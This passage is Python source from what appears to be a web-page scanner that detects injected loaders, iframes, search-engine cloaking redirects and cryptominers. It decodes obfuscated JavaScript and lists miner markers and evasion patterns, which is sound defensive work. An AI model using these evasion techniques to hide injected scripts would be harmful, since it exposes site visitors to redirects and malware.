"""Injected scripts, iframes and redirects (SEO3xx).

Attackers who can write to a page add a script rather than text: an obfuscated loader
(``eval(atob(...))``, Dean Edwards' packer, ``\\x`` escape chains, ``String.fromCharCode``
lists) that writes a ``<script src>`` or an iframe from a throwaway domain, a redirect of
visitors who arrive from a search engine (cloaking: the owner, who types the address, never
sees it), a 1x1 iframe, a cryptominer, or a script pasted before ``<html>`` or after
``</html>``.

Pages are full of legitimate scripts that use the same tools: analytics and tag-manager
snippets build ``<script>`` elements, ad loaders ``document.write`` them, email protectors
``eval(unescape(...))`` an address, minified bundles are dense and unreadable, A/B testing
and consent managers read cookies and the referrer. So obfuscation alone is not the signal:
this module decodes what it can (base64, percent- and ``\\x``-escapes, ``fromCharCode``,
packer) and asks what the code *does*: write a resource or send the visitor to a host that is
neither the page's site, nor a sister site, nor in the bundled list of common third-party
hosts (``detector/data/known_hosts.txt``), under a search-engine or user-agent condition.

Obfuscators that encode every literal are read by resolving the code in place
(:func:`resolve_code`): escapes decoded, printable char-code arrays (and short
``String.fromCharCode(...)`` words) turned into strings wherever they stand, ``table[index]``
lookups replaced by the table's entries, string pieces joined (``[...].join('')``, ``p.join('')``,
``''.concat(...)``, ``'<scr'+'ipt'``), computed members written as properties; a value used
away from its literal is traced back through variables, decoding loops and the arguments of an
immediately invoked function (:class:`_Tracer`); when lookups cannot be resolved cheaply, an
encoded string table's words stand for the code's vocabulary (:func:`vocabulary_intent`). An
action found this way is graded by how many independent signals agree (:func:`agreement`,
:func:`resolved_tier`): the hidden target (its domain nowhere in the code as written), the gates
injected code puts around its action (visitors from a search engine, a crawler test, a login
cookie test that skips the site's owner, a once-per-visitor cookie or storage marker, a delay, a
phones-only test: :func:`_gates`), a throwaway-looking host, a URL that passes for a popular
library's (``jquery.min.js`` on an unlisted host), and, only next to one of those, a
once-per-page window flag or a URL that reports the visited page or referrer.

Cost: script bodies are only searched after cheap substring prefilters; JSON, templates and
other non-executable script types are skipped; very large bodies (bundles) are inspected at
their start and end only.
"""

from __future__ import annotations

import base64
import binascii
import math
import re
from dataclasses import dataclass
from functools import lru_cache
from urllib.parse import unquote

import ahocorasick_rs

from detector.detectors import Detector
from detector.domains import host_of, registered_domain, same_owner, split_host
from detector.findings import Finding
from detector.lexicons import brands_in_label, find_terms
from detector.page import Page
from detector.patterns import rx

# --------------------------------------------------------------------------- known hosts
# (the bundled list lives in detector/hosts.py, shared with the page model)
from detector.hosts import is_known_domain, known_domains, parse_known_hosts  # noqa: E402,F401


# --------------------------------------------------------------------------- host shapes

# TLDs that are cheap or free to register and over-represented among throwaway malware
# and spam hosts (Spamhaus/Interisle "most abused TLD" reports). Only ever a corroborating
# signal: plenty of honest sites live there.
ABUSED_TLDS = frozenset((
    "top", "xyz", "club", "online", "site", "pw", "tk", "ml", "ga", "cf", "gq", "icu", "buzz", "rest", "fun",
    "space", "win", "bid", "loan", "work", "click", "link", "su", "cc", "ws", "monster", "cyou", "sbs", "cfd",
    "bar", "uno", "live", "store", "shop", "vip", "best", "today", "host", "press", "date", "racing", "review",
    "stream", "download", "trade", "accountant", "party", "science", "men", "kim", "country", "gdn", "mom",
    "lol", "quest", "cam", "surf", "zip", "mov",
))
MINER_MARKERS = ("coinhive", "coin-hive", "authedmine", "crypto-loot", "cryptoloot", "coinimp", "jsecoin",
                 "webminepool", "minero.cc", "deepminer", "cryptonight", "monerominer", "webmine.", "coinhave",
                 "ppoi.org", "minr.pw", "2giga.link", "coin-have")
_IPV4 = rx("SEO302.ipv4", r"\d{1,3}+(?:\.\d{1,3}+){3}", worst_case="1.1.")
_HEX_PATH = rx("SEO302.hex_path", r"/[0-9a-f]{24,}+(?:[/.?]|$)", re.IGNORECASE, worst_case="/aaaa")
_VOWELS = frozenset("aeiouy")


@lru_cache(maxsize=65536)
def host_shape(host: str) -> tuple[str, ...]:
    """Reasons a host looks like a throwaway one: raw IP, abused TLD, random-looking label."""
    if not host:
        return ()
    if _IPV4.fullmatch(host):
        if host.startswith(("10.", "192.168.", "127.")) or (host.startswith("172.") and 16 <= int(host.split(".")[1]) <= 31):
            return ("private IP address",)  # an intranet leftover, not an attacker's server
        return ("raw IP address",)
    sub, label, suffix = split_host(host)
    out = []
    tld = suffix.rsplit(".", 1)[-1] if suffix else ""
    if tld in ABUSED_TLDS:
        out.append(f"cheap TLD .{tld}")
    if not suffix:
        out.append("no public suffix")
    spam = _spam_words_in_label(label)
    if spam:
        out.append(f"spam vocabulary in name ({', '.join(spam[:2])})")
    lab = label.replace("-", "")
    if len(lab) >= 8:
        letters = [c for c in lab if c.isalpha()]
        digits = sum(c.isdigit() for c in lab)
        if letters:
            vowel_share = sum(c in _VOWELS for c in letters) / len(letters)
            if vowel_share < 0.18 or (len(lab) >= 12 and vowel_share < 0.25):
                out.append("random-looking name")
            elif digits >= 3 and len(letters) >= 3 and _transitions(lab) >= 3:
                out.append("random-looking name")
    return tuple(out)


def _spam_words_in_label(label: str) -> list[str]:
    """Spam brands and terms a domain label spells (``pillscartier`` -> cartier)."""
    if len(label) < 4:
        return []
    out = [b for b, _ in brands_in_label(label)]
    if "-" in label:
        out.extend(h.term for h in find_terms(label.replace("-", " "), limit=3))
    return out


def _transitions(s: str) -> int:
    n = 0
    for a, b in zip(s, s[1:]):
        if a.isdigit() != b.isdigit():
            n += 1
    return n


STRONG_SHAPES = ("raw IP address", "cheap TLD", "port ", "spam vocabulary")


def strong_shape(shape) -> int:
    """How many of a resource's shape reasons are strong (IP host, abused TLD, odd port).

    A random-looking name or a long hex path alone is common in ad tech (anti-adblock
    domains, hashed bundle names) and only corroborates.
    """
    return sum(1 for r in shape if r.startswith(STRONG_SHAPES))


def url_shape(url: str, host: str) -> list[str]:
    out = list(host_shape(host))
    i = url.find("//")
    if i >= 0:
        rest = url[i + 2:]
        netloc = rest.split("/", 1)[0]
        if ":" in netloc and not netloc.startswith("["):
            port = netloc.rsplit(":", 1)[1]
            if port.isdigit() and port not in ("80", "443", "8080"):
                out.append(f"port {port}")
        if _HEX_PATH.search(rest):
            out.append("long hex path")
    return out


def related(site: str, domain: str) -> bool:
    """Same owner as far as names tell (site itself, sister TLD, shared brand label)."""
    if not domain:
        return True
    return bool(site) and same_owner(site, domain)


def foreign(site: str, domain: str) -> bool:
    """An unrelated domain that is not common third-party infrastructure."""
    return bool(domain) and not related(site, domain) and not is_known_domain(domain)


# --------------------------------------------------------------------------- script text

EXECUTABLE_TYPES = frozenset(("", "text/javascript", "application/javascript", "module", "text/ecmascript",
                              "application/ecmascript", "application/x-javascript", "text/jscript",
                              "text/livescript", "javascript"))
MAX_BODY = 20_000  # bodies longer than this (bundles, app state) are inspected at both ends


def _view(body: str) -> str:
    if len(body) <= MAX_BODY:
        return body
    half = MAX_BODY // 2
    return body[:half] + "\n;\n" + body[-half:]


_DECODE_CALL = rx(
    "SEO301.decode_call",
    r"""\b(eval|Function|setTimeout|setInterval|document\.write(?:ln)?+|execScript)\s*+\(\s*+"""
    r"""(?:window\.)?+(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode|escape)\s*+\(""",
    worst_case="eval(eval(",
)
_PACKER = rx(
    "SEO301.packer",
    r"""\beval\s*+\(\s*+function\s*+\(\s*+p\s*+,\s*+a\s*+,\s*+c\s*+,\s*+k\s*+,\s*+e\s*+,\s*+[rd]\s*+\)""",
    worst_case="eval(function(p,a,",
)
_PACKED_ARGS = rx(
    "SEO301.packed_args",
    r"""\}\s*+\(\s*+'((?:[^'\\]|\\.){0,120000}+)'\s*+,\s*+(\d{1,3}+)\s*+,\s*+(\d{1,6}+)\s*+,\s*+"""
    r"""'((?:[^'\\]|\\.){0,120000}+)'\s*+\.split\(\s*+'\|'""",
    re.DOTALL,
    worst_case="}('\\'",
)
_ATOB_LIT = rx(
    "SEO301.atob_literal",
    r"""\batob\s*+\(\s*+["']([A-Za-z0-9+/=\s\\]{16,200000}+)["']""",
    worst_case="atob('AAAA",
)
_UNESCAPE_LIT = rx(
    "SEO301.unescape_literal",
    r"""\b(?:unescape|decodeURIComponent|decodeURI)\s*+\(\s*+["']([^"'\\]{6,200000}+)["']""",
    worst_case="unescape('%41",
)
_CHARCODES = rx(
    "SEO301.fromcharcode",
    r"""fromCharCode\s*+\(\s*+((?:\d{1,6}+\s*+,\s*+){4,}+\d{1,6}+)\s*+\)""",
    worst_case="fromCharCode(1,",
)
_ESCAPE_RUN = rx(
    "SEO301.escape_run",
    r"""(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\[0-7]{3}){8,}+""",
    worst_case="\\x41",
)
_ESCAPE_ONE = rx("SEO301.escape_one", r"""\\x([0-9a-fA-F]{2})|\\u([0-9a-fA-F]{4})|\\([0-7]{3})""", worst_case="\\x4")
_LONG_B64 = rx("SEO301.long_b64", r"""["'][A-Za-z0-9+/]{400,}+={0,2}+["']""", worst_case="'AAAA")

_WRITE_RESOURCE = rx(
    "SEO302.write_resource",
    r"""<\s*+(?:script|iframe|frame|embed|object)\b[^>]{0,400}?\bsrc\s*+=\s*+\\?+["']?+\s*+((?:https?:)?//[^"'\s>\\]{3,300}+)""",
    re.IGNORECASE,
    worst_case="<script src=",
)
_CREATE_SCRIPT = rx(
    "SEO302.create_element",
    r"""createElement\s*+\(\s*+(?:["'](script|iframe)["']|[\w$.\[\]]{1,40}+)\s*+\)""",
    re.IGNORECASE,
    worst_case="createElement('",
)
_URL_LIT = rx(
    "SEO302.url_literal",
    r"""(?:https?:|(?<=["'`=(]))//([A-Za-z0-9](?:[A-Za-z0-9-]{0,62}+\.){1,10}+[A-Za-z0-9-]{2,63}+)(?::(\d{2,5}+))?+""",
    worst_case="'//a.",
)
_REDIRECT = rx(
    "SEO303.redirect",
    r"""\b(?:(?:window|top|self|parent|document)\s*+\.\s*+)?+location(?:\s*+\.\s*+href)?+\s*+=(?!=)"""
    r"""|\blocation\s*+\.\s*+(?:replace|assign)\s*+\("""
    r"""|\bwindow\s*+\.\s*+(?:navigate|open)\s*+\(""",
    worst_case="location.location=",
)
_ENGINES = rx(
    "SEO303.search_engines",
    r"""google|bing\b|bing\.|yahoo|yandex|baidu|\baol\b|ask\.com|msn\.|duckduckgo|naver|sogou|so\.com|seznam""",
    re.IGNORECASE,
    worst_case="goog",
)
_BOTS = rx(
    "SEO303.bot_names",
    r"""googlebot|bingbot|slurp|baiduspider|yandexbot|yandex|msnbot|duckduckbot|\bbot\b|crawler|spider|lighthouse""",
    re.IGNORECASE,
    worst_case="googl",
)
_MOBILE = rx("SEO303.mobile_ua", r"""android|iphone|ipad|mobile|blackberry|opera mini|windows phone""",
             re.IGNORECASE, worst_case="andro")
_META_REFRESH = rx(
    "SEO303.meta_refresh",
    r"""^\s*+(\d{1,6}+)(?:\.\d++)?+\s*+(?:[;,]\s*+(?:url\s*+=\s*+)?+["']?+([^"'\s]{1,2000}+))?+""",
    re.IGNORECASE,
    worst_case="0;url=",
)
# document[_0x1a[0]]('script'): createElement called through a computed member (not followed
# by [0], which is getElementsByTagName's result)
_COMPUTED_CREATE = rx(
    "SEO302.computed_create",
    r"""\bdocument\s{0,40}+\[\s{0,40}+(?:[^\[\]\n]|\[[^\[\]\n]{0,40}+\]){1,80}+\]\s{0,40}+\(\s{0,40}+["'](script|iframe)["']\s{0,40}+\)"""
    r"""(?!\s{0,40}+\[)""",
    worst_case="document[a",
)
# a tag written with its src taken from a variable: '<script src="' + u + '">'
_WRITE_VAR = rx(
    "SEO302.write_var",
    r"""<\s*+(script|iframe|frame|embed|object)\b[^>]{0,400}?\bsrc\s*+=\s*+\\?+["']?+\s*+["'`]\s*+\+\s*+""",
    re.IGNORECASE,
    worst_case="<script src=",
)
# an element's source set: e.src = ... | e.setAttribute('src', ...
_SRC_SET = rx("SEO302.src_set", r"""\.\s{0,40}+src\s{0,40}+=(?!=)|setAttribute\(\s{0,40}+["']src["']\s{0,40}+,""",
              worst_case=".src ")
_HTML_OPEN = rx("SEO302.html_open", r"<html\b", re.IGNORECASE, worst_case="<htm")
_HTML_CLOSE = rx("SEO302.html_close", r"</html\s*+>", re.IGNORECASE, worst_case="</html ")
_TAGS_IN_JS = rx("SEO302.tags_in_js", r"<(?:script|iframe|frame|embed|object)\b", re.IGNORECASE, worst_case="<scrip")
_TAG_SCRIPTISH = rx("SEO302.scriptish", r"<(?:script|iframe)\b", re.IGNORECASE, worst_case="<scrip")


def _decode_escapes(s: str) -> str:
    def sub(m: re.Match) -> str:
        v = m.group(1) or m.group(2)
        n = int(v, 16) if v else int(m.group(3), 8)
        return chr(n) if n < 0x110000 else ""

    return _ESCAPE_ONE.sub(sub, s)


_DIGITS = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
_DIGIT_VALUE = {c: i for i, c in enumerate(_DIGITS)}
_WORD = rx("SEO301.packer_word", r"\b\w++\b", worst_case="a ")


def unpack_packer(payload: str, radix: int, count: int, words: str) -> str:
    """Undo Dean Edwards' packer: replace base-`radix` tokens by their dictionary words."""
    keys = words.split("|")
    if radix < 2 or radix > 62:
        return ""
    payload = payload.replace("\\'", "'").replace("\\\\", "\\")

    def sub(m: re.Match) -> str:
        tok = m.group(0)
        n = 0
        for ch in tok:
            d = _DIGIT_VALUE.get(ch)
            if d is None or d >= radix:
                return tok
            n = n * radix + d
        if n < len(keys) and keys[n]:
            return keys[n]
        return tok

    return _WORD.sub(sub, payload[:120_000])


def decode_layers(js: str) -> tuple[list[str], list[str]]:
    """What an obfuscated script hides: decoded payloads, and the techniques found."""
    payloads: list[str] = []
    techniques: list[str] = []
    if "eval" in js and ("p,a,c,k,e," in js or "p, a, c, k, e," in js):
        for m in _PACKED_ARGS.finditer(js):
            try:
                out = unpack_packer(m.group(1), int(m.group(2)), int(m.group(3)), m.group(4))
            except (ValueError, IndexError):
                out = ""
            if out:
                payloads.append(out)
                techniques.append("packer")
    if "atob" in js:
        for m in _ATOB_LIT.finditer(js):
            raw = m.group(1).replace("\\n", "").replace("\\", "")
            raw = "".join(raw.split())
            try:
                dec = base64.b64decode(raw + "=" * (-len(raw) % 4), validate=False).decode("utf-8", "replace")
            except (binascii.Error, ValueError):
                continue
            payloads.append(dec)
            techniques.append("base64")
    if "scape" in js or "decodeURI" in js:
        for m in _UNESCAPE_LIT.finditer(js):
            raw = m.group(1)
            if raw.count("%") >= 3:
                payloads.append(unquote(raw))
                techniques.append("percent-escapes")
    if "fromCharCode" in js:
        for m in _CHARCODES.finditer(js):
            try:
                payloads.append("".join(chr(int(x)) for x in m.group(1).replace(" ", "").split(",") if int(x) < 0x110000))
                techniques.append("fromCharCode")
            except ValueError:
                continue
    if "\\x" in js or "\\u" in js or "\\1" in js:
        runs = _ESCAPE_RUN.findall(js)
        if runs and sum(len(r) for r in runs) >= 40:
            payloads.append(_decode_escapes(" ".join(runs)))
            techniques.append("escape sequences")
    # one more layer: payloads that are themselves encoded (eval(atob(...)) inside packer ...)
    for p in list(payloads):
        if len(payloads) > 12:
            break
        if ("atob" in p or "unescape" in p or "fromCharCode" in p) and p is not js:
            inner, tech = decode_layers(p) if len(p) < 200_000 else ([], [])
            payloads.extend(inner[:4])
            techniques.extend(tech[:4])
    return payloads, techniques


# --------------------------------------------------------------------------- resolution
# Obfuscators seldom stop at one encoded payload that is run: they encode every string
# literal (``\x`` and ``\u`` escapes), keep the strings in a table read by index
# (``_0x3a1f[5]``), spell a URL as an array of char codes handed to a helper
# (``d([104,116,...])``), and reach members by a computed name (``document['createElement']``).
# ``resolve_code`` undoes the cheap parts in place, so that the ordinary intent analysis reads
# the code as it runs: escapes decoded (but not into quotes, backslashes or control characters,
# which would move a literal's end), printable char-code arrays (8 or more codes) turned into
# string literals wherever they stand, ``table[index]`` replaced by the table's entry (also
# through a one-line accessor ``function(i){i=i-OFFSET;return table[i]}`` and an array
# rotated by a literal count), string pieces joined (``['https://','x.','top'].join('')``, an array
# of pieces joined by name, ``''.concat(...)``, literals glued with ``+`` when a URL or a tag name
# is cut), and ``obj['name']`` written ``obj.name``. What cannot be resolved cheaply
# (checksum-driven rotations, arithmetic on codes) is still judged by the table's *vocabulary*: an
# encoded URL of a foreign host next to the words of an action (createElement/script/src/
# appendChild, write, location/replace/href).

_CODE_NUM = r"(?:0[xX][0-9a-fA-F]{1,4}+|\d{1,5}+)"
_CODE_ARRAY = rx(
    "SEO301.code_array",
    r"\[\s{0,40}+((?:" + _CODE_NUM + r"\s{0,40}+,\s{0,40}+){7,}+" + _CODE_NUM + r")\s{0,40}+,?+\s{0,40}+\]",
    worst_case="[1,",
)
_CODE_ARGS = rx(
    "SEO301.code_args",
    r"fromCharCode\s{0,40}+\(\s{0,40}+((?:" + _CODE_NUM + r"\s{0,40}+,\s{0,40}+){7,}+" + _CODE_NUM + r")\s{0,40}+\)",
    worst_case="fromCharCode(1,",
)
# "104,116,116,112,..." split at run time
_CODE_STRING = rx(
    "SEO301.code_string",
    r"""(['"])((?:\d{1,5}+[,;| ]){7,}+\d{1,5}+)\1""",
    worst_case="'1,",
)
# String.fromCharCode(115,99,114,105,112,116): a short word (a tag name, a cookie name) spelled
# in codes, replaced by the literal as a whole (the 8-code minimum of _CODE_ARGS is for bare lists)
_FCC_CALL = rx(
    "SEO301.fromcharcode_call",
    r"\bString\s{0,40}+\.\s{0,40}+fromCharCode\s{0,40}+\(\s{0,40}+((?:" + _CODE_NUM + r"\s{0,40}+,\s{0,40}+){1,600}+"
    + _CODE_NUM + r")\s{0,40}+\)",
    worst_case="String.fromCharCode(1,",
)
# a URL's scheme or host cut in two literals ('htt'+'ps://', 'https://ex'+'ample.top')
_SPLIT_TAIL = rx("SEO301.split_tail", r"""(?:\bh(?:t{1,2}+p?+s?+:?+/{0,2}+)?+|//[\w.-]{0,60}+)\Z""", worst_case="//a")
# a tag name cut in two literals ('<scr'+'ipt src="'+u+'">'): legitimate document.write loaders
# do it too, so it only lets resolve_code join the pieces, never counts as a signal
_SPLIT_TAG_TAIL = rx("SEO301.split_tag_tail", r"""</?+[A-Za-z]{1,8}+\Z""", worst_case="<a")


def _near_ends(js: str, found) -> bool:
    """``found(js, lo, hi)`` over a short script, or over either end of a long one (where an
    obfuscator's table or a snippet pasted into a bundle sits): bundles and JSON blobs are not
    scanned whole."""
    if len(js) <= 4000:
        return found(js, 0, len(js))
    return found(js, 0, 2000) or found(js, len(js) - 2000, len(js))


def _unicode_escapes_near_ends(js: str) -> bool:
    """``\\u00`` escapes near the ends (JSON blobs are full of them)."""
    return _near_ends(js, lambda s, lo, hi: s.find("\\u00", lo, hi) >= 0)


def _code_array_near_ends(js: str) -> bool:
    """A char-code array near the ends."""
    return _near_ends(js, lambda s, lo, hi: _CODE_ARRAY.search(s, lo, hi) is not None)


def _split_url(js: str, tail: re.Pattern = _SPLIT_TAIL) -> bool:
    """Whether a URL's scheme or host is cut between two literals ('htt'+'ps://', '//ex'+'ample.top')
    (`tail` = _SPLIT_TAG_TAIL: a tag name, '<scr'+'ipt')."""
    for sep in _SPLIT_SEPS:
        pos = 0
        for _ in range(100):  # str.find jumps between the (few) joins at C speed
            i = js.find(sep, pos)
            if i < 0:
                break
            if tail.search(js, max(0, i - 70), i):
                return True
            pos = i + len(sep)
    return False


_SPLIT_SEPS = ("'+'", '"+"', "' + '", '" + "')
# ['h','t','t','p','s',':','/','/',...].join(''): a string spelled letter by letter, so that
# neither a URL nor a word of it appears in the code
_CHAR_LIST_JOIN = rx(
    "SEO301.char_list_join",
    r"""\[\s{0,40}+((?:'[^'\\\n]{0,3}+'|"[^"\\\n]{0,3}+")(?:\s{0,40}+,\s{0,40}+(?:'[^'\\\n]{0,3}+'|"[^"\\\n]{0,3}+")){7,600}+)"""
    r"""\s{0,40}+,?+\s{0,40}+\]\s{0,40}+\.\s{0,40}+join\(\s{0,40}+(?:''|"")\s{0,40}+\)""",
    worst_case="['a','",
)
_CHAR_ITEM = rx("SEO301.char_item", r"'([^'\\\n]{0,3}+)'|\"([^\"\\\n]{0,3}+)\"", worst_case="'a")
_ATOB_SHORT = rx("SEO301.atob_short", r"""\batob\s{0,40}+\(\s{0,40}+['"]([A-Za-z0-9+/]{4,4000}+={0,2}+)['"]\s{0,40}+\)""",
                 worst_case="atob('AAAA")
# 'ht' + 'tp://ex' + "ample.top": literals joined at run time (a single-quoted piece may hold
# double quotes and the reverse: '<scr' + 'ipt src="')
_CONCAT_PAIR = rx(
    "SEO301.concat_pair",
    r"""(?:'([^'\\\n]{0,300}+)'|"([^"\\\n]{0,300}+)")\s{0,40}+\+\s{0,40}+(?:'([^'\\\n]{0,300}+)'|"([^"\\\n]{0,300}+)")""",
    worst_case="'a'+",
)
_STR_ENTRY = r"""(?:'(?:[^'\\\n]|\\.){0,800}+'|"(?:[^"\\\n]|\\.){0,800}+")"""
_STR_ENTRY_RX = rx("SEO301.string_entry", _STR_ENTRY, worst_case="'\\'")
# an array literal of two or more strings, its entries captured: ['https://', 'cdn-x.', 'top']
_STR_LIST = (r"\[\s{0,40}+(" + _STR_ENTRY + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){1,60}+)"
             r"\s{0,40}+,?+\s{0,40}+\]")
# ['https://', 'cdn-x.', 'top', '/a.js'].join(''): a URL kept in pieces (often each one escaped)
_PIECES_JOIN = rx(
    "SEO301.pieces_join",
    _STR_LIST + r"""\s{0,40}+\.\s{0,40}+join\(\s{0,40}+(?:''|"")\s{0,40}+\)""",
    worst_case="['',",
)
# var p = ['https://', 'cdn-x.', 'top']; ... p.join(''): the same, the array named
_PIECES_ARRAY = rx(
    "SEO301.pieces_array",
    r"=\s{0,40}+" + _STR_LIST,
    worst_case="=['',",
)
_NAMED_JOIN = rx(
    "SEO301.named_join",
    r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+\.\s{0,40}+join\(\s{0,40}+(?:''|"")\s{0,40}+\)""",
    worst_case="a.join(''",
)
# ''.concat('https://', 'cdn-x.', 'top'): pieces passed to String.prototype.concat
_CONCAT_CALL = rx(
    "SEO301.concat_call",
    r"(" + _STR_ENTRY + r")\s{0,40}+\.\s{0,40}+concat\(\s{0,40}+(" + _STR_ENTRY
    + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){0,60}+)\s{0,40}+\)",
    worst_case="''.concat('',",
)
_STRING_TABLE = rx(
    "SEO301.string_table",
    r"=\s{0,40}+\[\s{0,40}+(" + _STR_ENTRY + r"(?:\s{0,40}+,\s{0,40}+" + _STR_ENTRY + r"){2,600}+)\s{0,40}+,?+\s{0,40}+\]",
    worst_case="=['',",
)
_TABLE_REF = rx(
    "SEO301.table_ref",
    r"(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+\[\s{0,40}+(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+)\s{0,40}+\]",
    worst_case="a[1",
)
# var get = function(i, k) { i = i - 0x0; ... }  |  function get(i) { i = i - 12; ... }
_ACCESSOR = rx(
    "SEO301.table_accessor",
    r"(?:(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+=\s{0,40}+function|\bfunction\s{1,40}+([A-Za-z_$][\w$]{0,40}+))"
    r"\s{0,40}+\(\s{0,40}+([A-Za-z_$][\w$]{0,40}+)[^)]{0,80}+\)\s{0,40}+\{\s{0,40}+"
    r"\3\s{0,40}+=\s{0,40}+\3\s{0,40}+-\s{0,40}+(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+)",
    worst_case="a=function(b){b=b-",
)
_ACCESSOR_CALL = rx(
    "SEO301.accessor_call",
    r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\(\s{0,40}+(?:'(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+)'|"(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+)"|(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+))"""
    r"""\s{0,40}+(?:,\s{0,40}+(?:'[^'\\\n]{0,40}+'|"[^"\\\n]{0,40}+"))?+\s{0,40}+\)""",
    worst_case="a('1'",
)
# (function(arr, n){ ... arr.push(arr.shift()) ... }(table, 0x1a3)): an array rotated by a literal count
_ROTATION = rx(
    "SEO301.table_rotation",
    r"""\(\s{0,40}+([A-Za-z_$][\w$]{0,40}+)\s{0,40}+,\s{0,40}+(0[xX][0-9a-fA-F]{1,6}+|\d{1,6}+)\s{0,40}+\)\s{0,40}+\)""",
    worst_case="(a,1)",
)
_COMPUTED_MEMBER = rx(
    "SEO301.computed_member",
    r"""\[\s{0,40}+(?:'([A-Za-z_$][\w$]{0,40}+)'|"([A-Za-z_$][\w$]{0,40}+)")\s{0,40}+\]""",
    worst_case="['a",
)
_NOT_DECODED = frozenset((0x22, 0x27, 0x5C, 0x60))  # quotes, backslash, backtick: they end or escape a literal


def _num(tok: str) -> int:
    tok = tok.strip()
    return int(tok, 16) if tok[:2] in ("0x", "0X") else int(tok)


def codes_to_text(body: str) -> str | None:
    """The text a comma-separated list of char codes spells, if all are printable ASCII."""
    out = []
    for tok in body.split(","):
        try:
            n = _num(tok)
        except ValueError:
            return None
        if not (32 <= n < 127 or n in (9, 10, 13)):
            return None
        out.append(chr(n))
    text = "".join(out)
    if 2 * sum(c.isalnum() for c in text) < len(text):
        return None  # punctuation tables, not words
    return text


def _quote(text: str) -> str:
    q = "'" if "'" not in text else '"'
    return q + text.replace("\\", "\\\\").replace(q, "\\" + q).replace("\n", "\\n") + q


def _decode_escapes_in_code(js: str) -> str:
    def sub(m: re.Match) -> str:
        v = m.group(1) or m.group(2)
        n = int(v, 16) if v else int(m.group(3), 8)
        if n < 0x20 or n in _NOT_DECODED or 0xD800 <= n < 0xE000 or n >= 0x110000:
            return m.group(0)
        return chr(n)

    return _ESCAPE_ONE.sub(sub, js)


@dataclass(slots=True)
class Resolved:
    """A script with its cheaply decodable literals decoded in place."""

    code: str
    techniques: list[str]
    strings: list[str]  # entries of string tables and decoded char-code arrays: the code's vocabulary


def resolve_code(js: str) -> Resolved | None:
    """Decode escapes, char-code arrays and string-table lookups in place (None: nothing to do)."""
    techs: list[str] = []
    strings: list[str] = []
    code = js
    if "\\x" in code or "\\u" in code:
        dec = _decode_escapes_in_code(code)
        if dec != code:
            techs.append("escape-encoded strings")
            code = dec

    if ".join(" in code and "," in code:
        def letters(m: re.Match) -> str:
            text = "".join((x.group(1) or x.group(2) or "") for x in _CHAR_ITEM.finditer(m.group(1)))
            strings.append(text)
            return _quote(text)

        dec = _CHAR_LIST_JOIN.sub(letters, code)
        if dec != code:
            techs.append("string spelled letter by letter")
            code = dec

    def arr(m: re.Match) -> str:
        text = codes_to_text(m.group(1))
        if text is None:
            return m.group(0)
        strings.append(text)
        return _quote(text)

    if "fromCharCode" in code and "," in code and ("'" in code or '"' in code):
        def codestr(m: re.Match) -> str:
            text = codes_to_text(m.group(2).replace(";", ",").replace("|", ",").replace(" ", ","))
            if text is None:
                return m.group(0)
            strings.append(text)
            return _quote(text)

        dec = _CODE_STRING.sub(codestr, code)
        if dec != code:
            techs.append("char-code string")
            code = dec
    if "," in code:
        dec = _FCC_CALL.sub(arr, code) if "fromCharCode" in code else code
        dec = _CODE_ARGS.sub(lambda m: "fromCharCode(" + arr(m) + ")" if codes_to_text(m.group(1)) else m.group(0), dec) \
            if "fromCharCode" in dec else dec
        dec = _CODE_ARRAY.sub(arr, dec)
        if dec != code:
            techs.append("char-code array")
            code = dec
    tables: dict[str, list[str]] = {}
    if "[" in code and ("'" in code or '"' in code):
        for m in _STRING_TABLE.finditer(code):
            j = m.start()
            while j > 0 and code[j - 1] in " \t\r\n":
                j -= 1
            k = j
            while k > 0 and j - k < 40 and (code[k - 1].isalnum() or code[k - 1] in "_$"):
                k -= 1
            name = code[k:j]
            if not name or name[0].isdigit() or (k and code[k - 1] == "."):
                continue  # obj.prop = [...] or x[i] = [...]: not a variable's table
            entries = [e.group(0)[1:-1] for e in _STR_ENTRY_RX.finditer(m.group(1))]
            tables[name] = entries
            strings.extend(entries[:600])
            if len(tables) >= 4:
                break
    if tables:
        accessors: dict[str, tuple[str, int]] = {}
        if "function" in code:
            for m in _ACCESSOR.finditer(code):
                name = m.group(1) or m.group(2)
                start = m.end()
                body = code[start:start + 400]
                for t in tables:
                    if t + "[" in body:
                        accessors[name] = (t, _num(m.group(4)))
                        break
                if len(accessors) >= 4:
                    break
        if "push" in code and "shift" in code:
            for m in _ROTATION.finditer(code):
                t = m.group(1)
                if t in tables and tables[t]:
                    k = _num(m.group(2)) % len(tables[t])
                    tables[t] = tables[t][k:] + tables[t][:k]
                    break

        def ref(m: re.Match) -> str:
            entries = tables.get(m.group(1))
            if entries is None:
                return m.group(0)
            i = _num(m.group(2))
            return _quote(_unescape_entry(entries[i])) if i < len(entries) else m.group(0)

        def call(m: re.Match) -> str:
            acc = accessors.get(m.group(1))
            if acc is None:
                return m.group(0)
            entries = tables[acc[0]]
            i = _num(m.group(2) or m.group(3) or m.group(4)) - acc[1]
            return _quote(_unescape_entry(entries[i])) if 0 <= i < len(entries) else m.group(0)

        dec = _TABLE_REF.sub(ref, code)
        if accessors:
            dec = _ACCESSOR_CALL.sub(call, dec)
        if dec != code:
            techs.append("string table")
            code = dec
    if "atob" in code:
        def b64(m: re.Match) -> str:
            raw = m.group(1)
            try:
                text = base64.b64decode(raw + "=" * (-len(raw) % 4)).decode("ascii")
            except (binascii.Error, ValueError, UnicodeDecodeError):
                return m.group(0)
            if not text.isprintable():
                return m.group(0)
            strings.append(text)
            return _quote(text)

        dec = _ATOB_SHORT.sub(b64, code)
        if dec != code:
            techs.append("base64 strings")
            code = dec
    if (".join(" in code or ".concat(" in code) and ("'" in code or '"' in code):
        dec = _join_pieces(code, strings)
        if dec != code:
